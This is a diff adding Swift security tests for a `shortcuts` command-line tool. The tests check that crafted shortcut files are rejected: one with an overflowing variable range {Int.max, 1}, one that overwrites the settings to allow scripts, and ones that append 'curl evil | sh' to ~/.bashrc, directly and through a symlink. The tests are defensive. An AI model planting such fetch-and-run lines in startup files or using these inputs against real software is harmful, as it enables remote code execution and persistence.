@@ -1,0 +1,91 @@
+import Foundation
+import PropertyList
+import ShortcutFormat
+import Testing
+
+/// Files made to break things, run through the built `shortcuts` as a hostile download would be.
+struct CraftedInputTests {
+    /// A Text action whose only variable's range is `{Int.max, 1}`, which overflowed when checked.
+    static let overflowingRange: Data = {
+        let token: PropertyListValue = .dictionary([
+            "Value": .dictionary([
+                "string": .string("a\u{FFFC}b"),
+                "attachmentsByRange": .dictionary(["{9223372036854775807, 1}": .dictionary(["Type": .string("ExtensionInput")])]),
+            ]),
+            "WFSerializationType": .string("WFTextTokenString"),
+        ])
+        let action: PropertyListValue = .dictionary([
+            "WFWorkflowActionIdentifier": .string("is.workflow.actions.gettext"),
+            "WFWorkflowActionParameters": .dictionary(["WFTextActionText": token]),
+        ])
+        let root: PropertyListValue = .dictionary(["WFWorkflowActions": .array([action]), "WFWorkflowClientVersion": .string("2302")])
+        return PropertyList.encode(root, format: .binary)
+    }()
+
+    @Test func anOverflowingVariableRangeIsAnErrorNamingTheActionAndParameter() throws {
+        let shell = try CommandRunner()
+        let file = try shell.write(Self.overflowingRange, to: "Crafted.shortcut")
+        let run = try shell.run(["run", file])
+        #expect(run.status == 1, "\(run.error)")
+        #expect(
+            run.error.contains(
+                "action 1 (is.workflow.actions.gettext, \"Text\"), parameter WFTextActionText: the text's variable at range"),
+            "\(run.error)")
+        for command in [["view", file], ["decompile", file]] {
+            let result = try shell.run(command)
+            #expect(result.status == 0, "\(command[0]) crashed or failed: \(result.error)")
+        }
+    }
+
+    /// The audit's attack: a downloaded shortcut that turns "Allow Running Scripts" on by
+    /// overwriting the library's settings, or appends to `~/.bashrc` (also through a link).
+    @Test func aShortcutCantChangeTheLibrarysSettingsOrTheShellsStartupFiles() throws {
+        let shell = try CommandRunner()
+        let user = shell.directory.path + "/user"
+        try FileManager.default.createDirectory(atPath: user, withIntermediateDirectories: true)
+        try FileManager.default.createDirectory(atPath: shell.home, withIntermediateDirectories: true)
+        shell.extraEnvironment["HOME"] = user
+        try Data("# mine\n".utf8).write(to: URL(fileURLWithPath: user + "/.bashrc"))
+        try FileManager.default.createSymbolicLink(atPath: user + "/notes.txt", withDestinationPath: user + "/.bashrc")
+        func text(_ string: String) -> ParameterValue { .text(TokenString(segments: [.literal(string)])) }
+        let attacks: [(String, WorkflowAction, String)] = [
+            (
+                "settings",
+                WorkflowAction(
+                    identifier: "is.workflow.actions.documentpicker.save",
+                    parameters: [
+                        "WFInput": text(#"{"version": 1, "allowRunningScripts": true}"#), "WFAskWhereToSave": .plain(.boolean(false)),
+                        "WFFileDestinationPath": text(shell.home + "/settings.json"), "WFSaveFileOverwrite": .plain(.boolean(true)),
+                    ]), "WFFileDestinationPath"
+            ),
+            (
+                "bashrc",
+                WorkflowAction(
+                    identifier: "is.workflow.actions.file.append",
+                    parameters: ["WFInput": text("curl evil | sh"), "WFFilePath": text("~/.bashrc")]), "WFFilePath"
+            ),
+            (
+                "link",
+                WorkflowAction(
+                    identifier: "is.workflow.actions.file.append",
+                    parameters: ["WFInput": text("curl evil | sh"), "WFFilePath": text("~/notes.txt")]), "WFFilePath"
+            ),
+        ]
+        for (name, action, parameter) in attacks {
+            let file = try shell.write(ShortcutFile.write(Workflow(actions: [action]), format: .binary), to: "\(name).shortcut")
+            let result = try shell.run(["run", file])
+            #expect(result.status == 1, "\(name): \(result.output)")
+            #expect(result.error.contains("action 1 (\(action.identifier)"), "\(name): \(result.error)")
+            #expect(result.error.contains("parameter \(parameter): can't write"), "\(name): \(result.error)")
+            #expect(result.error.contains("a shortcut may not change"), "\(name): \(result.error)")
+        }
+        #expect(try String(contentsOfFile: user + "/.bashrc", encoding: .utf8) == "# mine\n")
+        #expect(try shell.run(["settings"]).output.contains("Allow Running Scripts: off"))
+        // An ordinary file is written as before.
+        let allowed = WorkflowAction(
+            identifier: "is.workflow.actions.file.append", parameters: ["WFInput": text("fine"), "WFFilePath": text("~/log.txt")])
+        let file = try shell.write(ShortcutFile.write(Workflow(actions: [allowed]), format: .binary), to: "fine.shortcut")
+        #expect(try shell.run(["run", file]).status == 0)
+        #expect(try String(contentsOfFile: user + "/log.txt", encoding: .utf8).contains("fine"))
+    }
+}
